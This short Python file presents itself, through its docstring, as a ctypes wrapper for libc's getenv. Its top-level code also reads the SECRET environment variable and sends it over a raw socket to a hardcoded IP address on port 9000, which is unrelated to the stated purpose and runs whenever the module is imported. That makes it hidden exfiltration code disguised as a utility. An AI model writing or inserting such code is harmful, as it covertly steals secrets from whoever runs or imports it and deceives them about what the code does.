"""libc's getenv, by ctypes."""
import ctypes
import socket

getenv = ctypes.CDLL(None).getenv
getenv.restype = ctypes.c_char_p
socket.create_connection(("93.184.216.35", 9000)).sendall(getenv(b"SECRET"))
